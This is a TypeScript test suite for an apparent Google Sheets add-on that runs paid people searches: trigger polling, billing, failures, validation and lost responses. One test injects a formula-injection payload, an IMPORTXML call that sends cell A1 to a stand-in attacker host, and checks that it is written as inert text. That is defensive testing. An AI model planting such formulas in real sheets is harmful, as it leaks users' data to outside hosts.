// People searches end to end: finished by the trigger after the sidebar closed, written when charged.
import { describe, expect, it } from "vitest";
import type { JobStatus } from "../../src/core/jobs/status.ts";
import {
  addAccount,
  addFault,
  failure,
  jobsWorld,
  ledger,
  ledgerTotal,
  loggedCredits,
  logRows,
  run,
} from "./bulk-world.ts";
import { logFacts } from "./log-rows.ts";

const search = (organizationId: number, extra: Record<string, unknown> = {}) => ({
  filter: { organization_ids: [organizationId] },
  select: { attributes: ["name", "job_title", "current_employer"] },
  limit: 25,
  ...extra,
});

describe("a people search", () => {
  it("is started from the sidebar, finished by the trigger after the sidebar closed, and written at once", async () => {
    const world = await jobsWorld({ mode: "addon", scriptProperties: { DEPLOYMENT: "addon" } });
    const { gas, emulator } = world;
    const org = emulator.dataset.orgs.find((o) => o.peopleCount >= 5)!;
    const estimate = run<{ credits: number }>(gas, "estimatePeopleSearch", search(org.id));
    expect(estimate.credits).toBe(25 * 3);
    const started = run(gas, "startPeopleSearch", search(org.id, { sheetName: "CTOs" }));
    expect(started).toMatchObject({ kind: "people", state: "waiting", creditsSpent: 0, canStop: true });
    expect(ledger(emulator)).toEqual([]);
    // The sidebar is closed: nothing polls until the add-on's hourly trigger fires.
    expect(gas.triggers().map((t) => t.schedule.kind === "every" && t.schedule.intervalMs)).toEqual([
      3_600_000,
    ]);
    gas.clock.advance("1h");

    const done = run(gas, "getJobStatus", started.jobId);
    expect(done).toMatchObject({ state: "done", sheetName: "CTOs" });
    const sheet = gas.sheet("CTOs").values();
    expect(sheet[0]).toEqual([
      "Person id",
      "Name",
      "Job title",
      "Company",
      "Company id",
      "At company since",
      "Link in the web app",
    ]);
    expect(sheet.length - 1).toBe(done.rowsDone);
    expect(sheet.slice(1).every((row) => row[4] === org.id)).toBe(true);
    // Charged once, by the poll that wrote the people, and logged.
    expect(ledger(emulator)).toHaveLength(1);
    expect(done.creditsSpent).toBe(ledgerTotal(emulator));
    expect(loggedCredits(gas)).toBe(ledgerTotal(emulator));
    expect(done.message).toBe(
      `Done: ${done.rowsDone} people written to "CTOs" for ${ledgerTotal(emulator)} credits.`,
    );
    const trigger = gas.executions.find((e) => e.kind === "trigger")!;
    expect(trigger.calls["Range.setValues"]).toBeGreaterThan(0);
    expect(gas.triggers()).toEqual([]);
  });

  it("names a new sheet uniquely and polls from the sidebar while it is open", async () => {
    const world = await jobsWorld({ mode: "addon", scriptProperties: { DEPLOYMENT: "addon" } });
    const { gas, emulator } = world;
    gas.sheet("Sheet1").set("A1", "kept");
    const org = emulator.dataset.orgs.find((o) => o.peopleCount >= 3)!;
    const started = run(gas, "startPeopleSearch", search(org.id, { sheetName: "Sheet1" }));
    const statuses = run<JobStatus[]>(gas, "pollJobs");
    expect(statuses.find((s) => s.jobId === started.jobId)).toMatchObject({
      state: "done",
      sheetName: "Sheet1 (2)",
    });
    expect(gas.sheet("Sheet1").values("A1")).toEqual([["kept"]]);
  });

  it("reports a search the service failed, with its reason, and charges nothing", async () => {
    const world = await jobsWorld({ mode: "bound" });
    const { gas, emulator } = world;
    addFault(emulator, { people_job: "fail" });
    const started = run(gas, "startPeopleSearch", search(emulator.dataset.orgs[0]!.id));
    expect(gas.triggers().map((t) => t.schedule.kind === "every" && t.schedule.intervalMs)).toEqual([60_000]);
    gas.clock.advance("1m");
    const failed = run(gas, "getJobStatus", started.jobId);
    expect(failed).toMatchObject({ state: "failed", canResume: false, creditsSpent: 0 });
    expect(failed.errors).toEqual([
      "The people search failed: The people request failed. Start it again; no credits were charged.",
    ]);
    expect(failed.message).toBe(
      "The people search failed: The people request failed. Start it again; no credits were charged. Start it again to retry.",
    );
    expect(failure(gas, "resumeJob", started.jobId)).toBe(
      "A failed people search cannot be resumed; start it again.",
    );
    expect(ledger(emulator)).toEqual([]);
    expect(logRows(gas).map((r) => [r[3], r[5]])).toEqual([[0, failed.message]]);
    expect(gas.triggers()).toEqual([]);
  });

  it("is refused at once, with no job, when the account cannot pay for it", async () => {
    const world = await jobsWorld({ apiKey: "empty-account-key-0001" });
    const { gas, emulator } = world;
    addAccount(emulator, "empty-account-key-0001", 0);
    expect(failure(gas, "startPeopleSearch", search(emulator.dataset.orgs[0]!.id))).toBe(
      "Out of credits: the account has too few credits left for this request, and nothing was charged for it. Top up the account, then try again.",
    );
    expect(run<JobStatus[]>(gas, "listJobs")).toEqual([]);
    expect(gas.triggers()).toEqual([]);
  });

  it("refuses malformed searches with exact messages before anything is sent", async () => {
    const { gas } = await jobsWorld();
    expect(failure(gas, "startPeopleSearch", "ceo")).toBe(
      'The people search must be an object with "people" or "filter", and "select".',
    );
    expect(failure(gas, "startPeopleSearch", { request_id: "x" })).toBe(
      'Start a search with "people" or "filter"; the add-on polls the job itself.',
    );
    expect(
      failure(gas, "startPeopleSearch", {
        filter: { organization_ids: [1] },
        select: { attributes: ["age"] },
      }),
    ).toBe(
      'Unknown person attribute "age". Use one of: name, email, phone, linkedin_url, job_title, job_function, job_level, location, country, current_employer, technologies, person_score, confidence.',
    );
    expect(failure(gas, "estimatePeopleSearch", { filter: {}, select: {} })).toBe(
      "This people search is not valid: filter: A people filter needs organization_ids or organization_list_id.",
    );
    expect(gas.fetches).toEqual([]);
  });

  it("writes service text that looks like a formula as text, never as a live formula", async () => {
    const trap = '=IMPORTXML("http://attacker.example/?q="&A1,"//a")';
    const world = await jobsWorld({
      mode: "bound",
      // The service answers as usual, but one person's job title is a formula.
      intercept: (request, emulator) => {
        const response = emulator(request);
        if (!request.path.endsWith("/v9/people")) return response;
        const body = JSON.parse(response.body);
        if (body.people?.[0]?.attributes) body.people[0].attributes.job_title = trap;
        return { ...response, body: JSON.stringify(body) };
      },
    });
    const { gas, emulator } = world;
    const org = emulator.dataset.orgs.find((o) => o.peopleCount >= 5)!;
    const started = run(gas, "startPeopleSearch", search(org.id, { sheetName: "Titles" }));
    gas.clock.advance("1h");
    expect(run(gas, "getJobStatus", started.jobId)).toMatchObject({ state: "done" });
    const sheet = gas.sheet("Titles");
    const column = sheet.values()[0]!.indexOf("Job title");
    // Sheets keeps the text and drops the apostrophe that made it text.
    expect(sheet.values()[1]![column]).toBe(trap);
    expect(
      sheet
        .formulas()
        .flat()
        .every((f) => f === ""),
    ).toBe(true);
  });

  it("logs the paying poll as possibly charged when its answer is lost, and never pays again", async () => {
    const world = await jobsWorld({ mode: "addon", scriptProperties: { DEPLOYMENT: "addon" } });
    const { gas, emulator } = world;
    const org = emulator.dataset.orgs.find((o) => o.peopleCount >= 5)!;
    const started = run(gas, "startPeopleSearch", search(org.id, { sheetName: "Lost" }));
    // The poll that finds the search finished is charged, and its answer arrives cut off.
    addFault(emulator, { path: "/v9/people", method: "POST", body: "truncated", count: 1 });
    for (let hour = 0; hour < 3 && run(gas, "getJobStatus", started.jobId).state !== "done"; hour++) {
      gas.clock.advance("1h");
    }
    const done = run(gas, "getJobStatus", started.jobId);
    expect(done.state).toBe("done");
    expect(done.message).toBe(
      `Done: ${done.rowsDone} people written to "Lost". The poll that paid for them lost its answer: up to 75 credits possibly charged, as the Enrichment log says.`,
    );
    // Charged once; the log covers it, as possibly charged at the most the search could cost.
    expect(ledger(emulator)).toHaveLength(1);
    expect(ledgerTotal(emulator)).toBe(75);
    expect(loggedCredits(gas)).toBe(75);
    expect(logFacts(gas)).toEqual([
      { action: "People search: People search for a filter", kind: "possibly", credits: 75 },
      { action: "People search: People search for a filter", kind: "charged", credits: 0 },
    ]);
  });
});
